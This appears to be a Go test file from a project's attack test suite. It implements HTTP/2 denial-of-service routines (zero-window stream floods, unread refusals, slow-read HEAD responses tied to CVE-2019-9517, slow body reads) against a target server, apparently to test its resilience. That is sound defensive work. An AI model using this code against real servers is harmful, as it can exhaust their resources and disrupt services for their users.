// SPDX-FileCopyrightText: The Leat Authors
// SPDX-License-Identifier: Apache-2.0

//go:build linux

package attack_test

import (
	"context"
	"errors"
	"math"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// streamsPerConnection is how many streams servers commonly allow at once.
const streamsPerConnection = 1000

// errClosed means that the server has closed a connection that the attack wanted to hold.
var errClosed = errors.New("the server has closed the connection")

// redirected is a path that a mux redirects, with the query in the answer's head: a large answer to
// a small request.
var redirected = "//x?" + strings.Repeat("q", 3900)

// zeroWindow requests many answers and allows no byte of their bodies. With a person's token it
// requests a cluster that the person may not reach.
func zeroWindow(ctx context.Context, v *victim) {
	path, fields := "/metrics", []string(nil)
	if v.personToken != "" {
		path, fields = "/clusters/unknown/api", []string{"authorization", "Bearer " + v.personToken}
	}
	v.each(ctx, func(ctx context.Context) error {
		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer f.Close()
		for range streamsPerConnection {
			if _, err := f.request(true, "GET", path, fields...); err != nil {
				return err
			}
		}
		if err := f.send(func() error { return nil }); err != nil {
			return err
		}
		return f.held(ctx)
	})
}

// unreadRefusals sends as much of many bodies as a server takes unasked, and allows no byte of the
// refusals. A server must not keep a refused body until its peer has read the refusal. With a
// person's token the requests are for a cluster that the person may not reach.
func unreadRefusals(ctx context.Context, v *victim) {
	path, fields := trivial, []string(nil)
	if v.personToken != "" {
		path, fields = "/clusters/unknown/api", []string{"authorization", "Bearer " + v.personToken}
	}
	const perStream, perConnection = 512 << 10, 60 << 20
	piece := make([]byte, 16<<10)
	v.each(ctx, func(ctx context.Context) error {
		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer f.Close()
		for range perConnection / perStream {
			id, err := f.request(false, "POST", path, fields...)
			if err != nil {
				return err
			}
			for range perStream / len(piece) {
				if err := f.queue(func() error { return f.WriteData(id, false, piece) }); err != nil {
					return err
				}
			}
		}
		if err := f.send(func() error { return nil }); err != nil {
			return err
		}
		return f.held(ctx)
	})
}

// slowHeads requests answers that consist only of a head, which no window bounds, and reads a few
// bytes now and then (CVE-2019-9517).
func slowHeads(ctx context.Context, v *victim) {
	v.each(ctx, func(ctx context.Context) error {
		// Without a table the server cannot compress its answers. After the first request, each
		// path takes one byte.
		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
		if err != nil {
			return err
		}
		defer f.Close()
		narrow(f.Conn)
		ended := make(chan error, 1)
		go func() { ended <- trickle(ctx, f.Conn) }()
		for {
			// Send no more at once than the server answers: it would refuse the rest.
			for range streamsPerConnection / 10 {
				if _, err := f.request(true, "HEAD", redirected); err != nil {
					return errors.Join(err, <-ended)
				}
			}
			if err := f.send(func() error { return nil }); err != nil {
				return errors.Join(err, <-ended)
			}
			wait(ctx, 2*time.Millisecond)
		}
	})
}

// slowBodies requests an answer many times, allows all of it, and reads a few bytes now and then.
func slowBodies(path string) func(context.Context, *victim) {
	return func(ctx context.Context, v *victim) {
		v.each(ctx, func(ctx context.Context) error {
			f, err := v.http2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: math.MaxInt32})
			if err != nil {
				return err
			}
			defer f.Close()
			narrow(f.Conn)
			if err := f.queue(func() error { return f.WriteWindowUpdate(0, math.MaxInt32-1<<16) }); err != nil {
				return err
			}
			for range streamsPerConnection {
				if _, err := f.request(true, "GET", path); err != nil {
					return err
				}
			}
			if err := f.send(func() error { return nil }); err != nil {
				return err
			}
			return trickle(ctx, f.Conn)
		})
	}
}
